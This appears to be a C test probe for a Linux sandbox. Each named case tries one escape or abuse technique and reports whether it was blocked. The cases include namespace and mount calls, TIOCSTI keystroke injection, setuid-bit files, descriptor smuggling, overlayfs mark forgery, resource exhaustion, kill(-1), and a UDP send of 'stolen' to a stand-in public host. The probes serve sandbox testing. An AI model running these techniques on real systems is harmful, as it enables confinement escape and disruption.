// One attack a call, from inside the sandbox: `probe NAME [ARG]` prints `tried NAME RESULT` and always exits 0, so that
// a case which did not run at all cannot be mistaken for one that was stopped. RESULT is `ok` or the errno's name.
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/keyctl.h>
#include <linux/netlink.h>
#include <linux/perf_event.h>
#include <linux/sched.h>
#include <linux/seccomp.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif
#ifndef MSG_FASTOPEN
#define MSG_FASTOPEN 0x20000000
#endif

static long in_child(unsigned long flags) {
  long pid = syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
  if (pid == 0) _exit(0);
  if (pid > 0) waitpid((pid_t)pid, NULL, 0);
  return pid;
}

static long try_clone3(void) {
  struct clone_args args = {.flags = CLONE_NEWUSER, .exit_signal = SIGCHLD};
  long pid = syscall(SYS_clone3, &args, sizeof args);
  if (pid == 0) _exit(0);
  if (pid > 0) waitpid((pid_t)pid, NULL, 0);
  return pid;
}

static long try_perf(void) {
  struct perf_event_attr attr = {.type = PERF_TYPE_SOFTWARE, .size = sizeof attr, .config = PERF_COUNT_SW_CPU_CLOCK};
  return syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0);
}

// A terminal's own input queue: what is pushed there is typed by the operator's shell later.
static long try_sti(unsigned long request, const char *bytes) {
  int fd = open("/dev/tty", O_RDWR);
  if (fd < 0) fd = 0;
  return ioctl(fd, request, bytes);
}

static long try_handle(void) {
  struct { struct file_handle head; unsigned char bytes[128]; } handle;
  memset(&handle, 0, sizeof handle);
  handle.head.handle_bytes = 8;
  handle.head.handle_type = 1;
  handle.bytes[0] = 2;  // the root inode of ext4
  int fd = open("/", O_RDONLY | O_DIRECTORY);
  return syscall(SYS_open_by_handle_at, fd, &handle.head, O_RDONLY);
}

static long try_vm(pid_t pid) {
  char here[16];
  struct iovec local = {here, sizeof here}, remote = {(void *)0x400000, sizeof here};
  return syscall(SYS_process_vm_readv, pid, &local, 1, &remote, 1, 0);
}

static long try_x32(void) { return syscall(0x40000000 + SYS_getpid); }

#if defined(__x86_64__)
static long try_int80(void) {
  long result;
  __asm__ volatile("int $0x80" : "=a"(result) : "a"(20L) : "memory");  // i386 getpid
  return result;
}
#endif

static long try_connect(int domain, int type, int protocol, const char *address, int port) {
  int fd = socket(domain, type, protocol);
  if (fd < 0) return -1;
  struct timeval limit = {2, 0};
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
  if (domain == AF_INET6) {
    struct sockaddr_in6 to = {.sin6_family = AF_INET6, .sin6_port = htons((unsigned short)port)};
    inet_pton(AF_INET6, address, &to.sin6_addr);
    return connect(fd, (struct sockaddr *)&to, sizeof to);
  }
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
  inet_pton(AF_INET, address, &to.sin_addr);
  return connect(fd, (struct sockaddr *)&to, sizeof to);
}

static long try_send(const char *address, int port, int type, int flags) {
  int fd = socket(AF_INET, type, 0);
  if (fd < 0) return -1;
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
  inet_pton(AF_INET, address, &to.sin_addr);
  return sendto(fd, "stolen", 6, flags, (struct sockaddr *)&to, sizeof to);
}

static long try_abstract(const char *name) {
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  struct sockaddr_un to = {.sun_family = AF_UNIX};
  size_t length = strlen(name);
  memcpy(to.sun_path + 1, name, length);
  return connect(fd, (struct sockaddr *)&to, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + length));
}

static long try_path_socket(const char *path) {
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  struct sockaddr_un to = {.sun_family = AF_UNIX};
  strncpy(to.sun_path, path, sizeof to.sun_path - 1);
  return connect(fd, (struct sockaddr *)&to, sizeof to);
}

// Runs a copy of itself from memory: allowed, but the copy is inside the same walls.
static long try_memfd(void) {
  int out = memfd_create("x", 0), in = open("/proc/self/exe", O_RDONLY);
  if (out < 0 || in < 0) return -1;
  char buffer[65536];
  for (ssize_t n; (n = read(in, buffer, sizeof buffer)) > 0;)
    if (write(out, buffer, (size_t)n) != n) return -1;
  pid_t pid = fork();
  if (pid == 0) {
    char *argv[] = {"probe", "unshare-user", NULL}, *envp[] = {NULL};
    fexecve(out, argv, envp);
    _exit(1);
  }
  int status;
  waitpid(pid, &status, 0);
  return status;
}

// A root-owned program on the host's disk that runs as root for whoever starts it there.
static long try_set_id(int by_open) {
  int fd = open("bit", O_CREAT | O_RDWR, by_open ? 06755 : 0755);
  return by_open || fd < 0 ? fd : fchmod(fd, 04755);
}

// At 0 a core_pattern that is a pipe starts its program, as root on the host; at 1 it does not.
static long core_limit(void) {
  struct rlimit limit = {0, 0};
  setrlimit(RLIMIT_CORE, &limit);
  return getrlimit(RLIMIT_CORE, &limit) == 0 ? (long)limit.rlim_cur : -1;
}

static long descriptors(void) {
  // Anything beyond stdio was left open by somebody outside (CVE-2024-21626).
  long open_ones = 0;
  for (int fd = 3; fd < 1024; fd++)
    if (fcntl(fd, F_GETFD) >= 0) open_ones++;
  return open_ones;
}

// A filter of one's own that allows everything: filters add up, so what was refused before stays refused.
static long try_stacking(void) {
  struct sock_filter allow = {BPF_RET | BPF_K, 0, 0, SECCOMP_RET_ALLOW};
  struct sock_fprog all = {1, &allow};
  if (prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &all, 0, 0) != 0) return -1;
  return unshare(CLONE_NEWUSER);
}

// A descriptor sent to whoever holds the other end of our stdio.
static long try_smuggle(void) {
  char byte = 'x', control[CMSG_SPACE(sizeof(int))] = {0};
  struct iovec data = {&byte, 1};
  struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
  struct cmsghdr *head = CMSG_FIRSTHDR(&message);
  int fd = open("/proc/self/mem", O_RDWR);
  head->cmsg_level = SOL_SOCKET;
  head->cmsg_type = SCM_RIGHTS;
  head->cmsg_len = CMSG_LEN(sizeof fd);
  memcpy(CMSG_DATA(head), &fd, sizeof fd);
  for (int to = 0; to < 3; to++)
    if (sendmsg(to, &message, 0) > 0) return to;
  return -1;
}

// Something that overlayfs takes for its own mark: a whiteout, an opaque folder, a redirect, a hidden origin.
static long try_forgery(void) {
  long made = 0;
  if (mknod("kept.forged", S_IFCHR, makedev(0, 0)) == 0) made++;
  mkdir("forged", 0755);
  const char *marks[] = {"user.overlay.opaque", "user.overlay.redirect", "user.overlay.origin", "user.overlay.metacopy",
                         "trusted.overlay.opaque", "trusted.overlay.redirect"};
  for (size_t i = 0; i < sizeof marks / sizeof *marks; i++)
    if (setxattr("forged", marks[i], i % 4 == 1 ? "/etc" : "y", i % 4 == 1 ? 4 : 1, 0) == 0) made++;
  return made;
}

static void *sleeper(void *none) { pause(); return none; }

static long count_threads(long most) {
  long started = 0;
  pthread_attr_t small;
  pthread_attr_init(&small);
  pthread_attr_setstacksize(&small, 64 * 1024);
  for (pthread_t id; started < most && pthread_create(&id, &small, sleeper, NULL) == 0;) started++;
  return started;
}

static long count_files(long most) {
  long opened = 0;
  struct rlimit limit = {(rlim_t)most, (rlim_t)most};
  setrlimit(RLIMIT_NOFILE, &limit);
  while (opened < most && open("/dev/null", O_RDONLY) >= 0) opened++;
  return opened;
}

static long make_inodes(long most) {
  char name[32];
  mkdir("many", 0755);
  for (long i = 0; i < most; i++) {
    snprintf(name, sizeof name, "many/%ld", i);
    int fd = open(name, O_CREAT | O_WRONLY, 0644);
    if (fd < 0) return i;
    close(fd);
  }
  return most;
}

// Listens where a neighbour might, and says after the input has ended whether anybody came.
static long try_listen(int port) {
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
  struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
  if (bind(fd, (struct sockaddr *)&at, sizeof at) != 0 || listen(fd, 8) != 0) return -1;
  puts("listening");
  fflush(stdout);
  for (char byte; read(0, &byte, 1) > 0;) continue;
  return accept(fd, NULL, NULL);
}

static long attempt(const char *name, const char *arg) {
  int number = arg ? atoi(arg) : 0;
#define CASE(text) if (strcmp(name, text) == 0)
  CASE("unshare-user") return unshare(CLONE_NEWUSER);
  CASE("unshare-mount") return unshare(CLONE_NEWNS);
  CASE("unshare-net") return unshare(CLONE_NEWNET);
  CASE("unshare-cgroup") return unshare(CLONE_NEWCGROUP);
  CASE("clone-user") return in_child(CLONE_NEWUSER);
  CASE("clone-pid") return in_child(CLONE_NEWPID);
  CASE("clone3-user") return try_clone3();
  CASE("mount") return mount("none", "/tmp", "tmpfs", 0, NULL);
  CASE("bind-mount") return mount("/etc", "/tmp", NULL, MS_BIND, NULL);
  CASE("remount") return mount(NULL, "/usr", NULL, MS_REMOUNT | MS_BIND, NULL);
  CASE("umount") return umount2("/etc/passwd", MNT_DETACH);
  CASE("fsopen") return syscall(SYS_fsopen, "tmpfs", 0);
  CASE("open-tree") return syscall(SYS_open_tree, AT_FDCWD, "/", 1);
  CASE("move-mount") return syscall(SYS_move_mount, AT_FDCWD, "/tmp", AT_FDCWD, "/mnt", 0);
  CASE("mount-setattr") { struct { unsigned long v[4]; } attr = {{0}}; return syscall(SYS_mount_setattr, AT_FDCWD, "/usr", 0, &attr, sizeof attr); }
  CASE("pivot-root") return syscall(SYS_pivot_root, "/", "/tmp");
  CASE("chroot") return chroot("/tmp");
  CASE("setns") { int fd = open("/proc/self/ns/net", O_RDONLY); return fd < 0 ? -1 : setns(fd, CLONE_NEWNET); }
  CASE("io-uring") { char params[120] = {0}; return syscall(SYS_io_uring_setup, 4, params); }
  CASE("userfaultfd") return syscall(SYS_userfaultfd, 0);
  CASE("bpf") { char attr[128] = {0}; return syscall(SYS_bpf, 0, attr, sizeof attr); }
  CASE("perf") return try_perf();
  CASE("add-key") return syscall(SYS_add_key, "user", "x", "y", 1L, KEY_SPEC_SESSION_KEYRING);
  CASE("keyctl") return syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 1L);
  CASE("request-key") return syscall(SYS_request_key, "user", "x", NULL, 0L);
  CASE("af-alg") return socket(AF_ALG, SOCK_SEQPACKET, 0);
  CASE("af-packet") return socket(AF_PACKET, SOCK_RAW, 0);
  CASE("af-vsock") return socket(AF_VSOCK, SOCK_STREAM, 0);
  CASE("raw-socket") return socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
  CASE("netlink-audit") return socket(AF_NETLINK, SOCK_RAW, NETLINK_AUDIT);
  CASE("netlink-netfilter") return socket(AF_NETLINK, SOCK_RAW, NETLINK_NETFILTER);
  CASE("netlink-uevent") return socket(AF_NETLINK, SOCK_RAW, NETLINK_KOBJECT_UEVENT);
  CASE("socketpair-dgram") { int pair[2]; return socketpair(AF_UNIX, SOCK_DGRAM, 0, pair); }
  CASE("ptrace") return ptrace(PTRACE_ATTACH, number, NULL, NULL);
  CASE("process-vm") return try_vm((pid_t)number);
  CASE("pidfd-getfd") { int fd = (int)syscall(SYS_pidfd_open, 1, 0); return fd < 0 ? -1 : syscall(SYS_pidfd_getfd, fd, 0, 0); }
  CASE("open-by-handle") return try_handle();
  CASE("kexec") return syscall(SYS_kexec_load, 0, 0, NULL, 0);
  CASE("init-module") return syscall(SYS_init_module, "", 0, "");
  CASE("finit-module") return syscall(SYS_finit_module, 0, "", 0);
  CASE("reboot") return syscall(SYS_reboot, 0xfee1dead, 672274793, 0, NULL);  // CAD off: harmless if it worked
  CASE("syslog") { char line[64]; return syscall(SYS_syslog, 3, line, sizeof line); }
  CASE("settime") { struct timespec now = {0, 0}; clock_gettime(CLOCK_REALTIME, &now); return clock_settime(CLOCK_REALTIME, &now); }
  CASE("sethostname") return sethostname("x", 1);
  CASE("acct") return syscall(SYS_acct, "/tmp/x");
  CASE("swapon") return syscall(SYS_swapon, "/tmp/x", 0);
  CASE("fanotify") return syscall(SYS_fanotify_init, 4, 0);
  CASE("mknod") return mknod("/tmp/disk", S_IFBLK | 0600, makedev(254, 0));
  CASE("setuid-root") return setuid(0);
  CASE("setgroups") { gid_t none = 0; return (long)syscall(SYS_setgroups, 1, &none); }
  CASE("x32") return try_x32();
#if defined(__x86_64__)
  CASE("int80") return try_int80();
  CASE("iopl") return syscall(SYS_iopl, 3);
#endif
  CASE("tiocsti") return try_sti(TIOCSTI, "x");
  CASE("tioclinux") return try_sti(TIOCLINUX, "\3");
  CASE("connect4") return try_connect(AF_INET, SOCK_STREAM, 0, "127.0.0.1", number);
  CASE("connect6") return try_connect(AF_INET6, SOCK_STREAM, 0, "::1", number);
  CASE("connect-mapped") return try_connect(AF_INET6, SOCK_STREAM, 0, "::ffff:127.0.0.1", number);
  CASE("connect-mptcp") return try_connect(AF_INET, SOCK_STREAM, IPPROTO_MPTCP, "127.0.0.1", number);
  CASE("connect-sctp") return try_connect(AF_INET, SOCK_STREAM, IPPROTO_SCTP, "127.0.0.1", number);
  CASE("fast-open") return try_send("127.0.0.1", number, SOCK_STREAM, MSG_FASTOPEN);
  CASE("udp") return try_send("127.0.0.1", number, SOCK_DGRAM, 0);
  CASE("udp-public") return try_send("192.0.2.1", 443, SOCK_DGRAM, 0);
  CASE("abstract") return try_abstract(arg);
  CASE("path-socket") return try_path_socket(arg);
  CASE("signal") return kill((pid_t)number, SIGKILL);
  CASE("set-id-chmod") return try_set_id(0);
  CASE("set-id-open") return try_set_id(1);
  CASE("openat2") { unsigned long how[3] = {O_CREAT | O_WRONLY, 06755, 0}; return syscall(SYS_openat2, AT_FDCWD, "bit2", how, sizeof how); }
  CASE("core-limit") return core_limit();
  CASE("memfd") return try_memfd();
  CASE("descriptors") return descriptors();
  CASE("stacking") return try_stacking();
  CASE("smuggle") return try_smuggle();
  CASE("forgery") return try_forgery();
  CASE("threads") return count_threads(number);
  CASE("files") return count_files(number);
  CASE("inodes") return make_inodes(number);
  CASE("listen") return try_listen(number);
  CASE("kill-all") return kill(-1, SIGKILL);
  errno = ENOEXEC;
  return -1;
}

int main(int argc, char **argv) {
  if (argc < 2) return 2;
  errno = 0;
  long result = attempt(argv[1], argc > 2 ? argv[2] : NULL);
  if (result == -1) printf("tried %s %s\n", argv[1], strerrorname_np(errno) ? strerrorname_np(errno) : "unknown");
  else printf("tried %s ok %ld\n", argv[1], result);
  return 0;
}
